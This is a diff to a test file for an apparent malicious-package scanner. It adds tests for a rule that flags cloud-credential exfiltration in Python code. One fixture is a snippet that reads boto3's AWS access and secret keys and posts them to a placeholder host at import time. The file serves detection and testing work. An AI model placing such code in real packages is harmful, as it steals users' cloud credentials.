@@ -215,6 +215,20 @@ describe('binary-dropper: a script written out and started by name', () => {
   });
 });
 
+describe('env-exfil: cloud credentials sent out', () => {
+  const hits = (source: string) =>
+    runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'env-exfil');
+  it("fires when a function posts boto3's resolved keys: critical at import time, as secrets are", () => {
+    const source =
+      'import boto3, requests\ndef t():\n    cd = boto3.Session().get_credentials()\n' +
+      '    requests.post("https://x.example/zz", json={"k": cd.access_key, "s": cd.secret_key})\nt()\n';
+    expect(hits(source).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
+  });
+  it('does not fire on credentials read and no send in the same body', () => {
+    expect(hits('import boto3\ndef t():\n    return boto3.Session().get_credentials()\n')).toEqual([]);
+  });
+});
+
 describe('binary-dropper: the very file a function wrote, started', () => {
   const hits = (source: string, path = 'pkg/__init__.py') =>
     runRules(parsePython(source, path)).filter((e) => e.rule === 'binary-dropper');
